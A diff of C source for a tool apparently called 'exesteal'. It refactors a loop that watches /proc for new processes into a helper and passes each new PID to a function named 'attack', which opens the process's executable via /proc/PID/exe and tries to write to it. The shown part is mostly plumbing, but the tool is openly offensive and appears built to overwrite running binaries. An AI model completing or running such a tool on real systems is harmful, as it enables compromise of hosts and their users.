@@ -15,6 +15,8 @@
  * line per process found, the last "pid N: done"; runs until killed.
  */
 #define _GNU_SOURCE
+#include "newpids.h"
+
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -26,19 +28,6 @@
 #include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
-
-#define MAX_PID 4194304
-
-static unsigned char seen[MAX_PID / 8 + 1];
-
-static bool first_sight(int pid)
-{
-        if (pid <= 0 || pid >= MAX_PID)
-                return false;
-        bool old = seen[pid / 8] & (1u << (pid % 8));
-        seen[pid / 8] |= (unsigned char)(1u << (pid % 8));
-        return !old;
-}
 
 static void pause_ms(long ms)
 {
@@ -64,8 +53,9 @@ static int open_for_writing(int exe)
         return -ETXTBSY;
 }
 
-static void attack(int pid, const char *fifo)
+static void attack(int pid, void *arg)
 {
+        const char *fifo = arg;
         char p[64], target[512] = "";
         snprintf(p, sizeof(p), "/proc/%d/exe", pid);
         int exe = open(p, O_PATH | O_CLOEXEC);
@@ -107,22 +97,5 @@ int main(int argc, char **argv)
                 perror("exesteal");
                 return 1;
         }
-        DIR *d = opendir("/proc");
-        struct dirent *e;
-        while (d && (e = readdir(d)) != NULL)
-                first_sight(atoi(e->d_name));
-        if (d)
-                closedir(d);
-        printf("watching\n");
-        for (;;) {
-                d = opendir("/proc");
-                if (d == NULL)
-                        return 1;
-                while ((e = readdir(d)) != NULL) {
-                        int pid = atoi(e->d_name);
-                        if (first_sight(pid))
-                                attack(pid, argv[1]);
-                }
-                closedir(d);
-        }
+        return watch_new_pids(attack, argv[1]);
 }
